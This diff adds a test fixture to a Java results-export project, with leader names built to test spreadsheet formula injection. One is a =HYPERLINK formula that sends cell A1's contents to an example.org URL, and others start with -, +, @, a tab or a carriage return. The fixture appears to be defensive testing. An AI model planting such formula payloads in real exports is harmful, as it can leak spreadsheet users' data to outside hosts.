@@ -70,4 +70,18 @@ final class ExportFixtures {
             throw new UncheckedIOException(e);
         }
     }
+
+    /** Leaders named like formulas (issue 11, item 5), with the reference figures. */
+    static final String HYPERLINK = "=HYPERLINK(\"http://example.org/?x=\"&A1,\"x\")";
+    static final String ARITHMETIC = "-2+3";
+
+    static ResultsExport hostileExport() {
+        VoteDefinition vote = Votes.builder("ltn-2026").participants(490)
+                .leaders(new vn.tinnhiem.core.Leader("director", HYPERLINK, "@SUM(1+1)"),
+                        new vn.tinnhiem.core.Leader("deputy1", ARITHMETIC, "+Phó Cục trưởng"),
+                        new vn.tinnhiem.core.Leader("deputy2", "\tTab", "\rReturn"))
+                .build();
+        Results results = Results.of(vote, results().tally());
+        return new ResultsExport(results, receipts(), auditLog(results), Locale.forLanguageTag("vi"), MADE);
+    }
 }
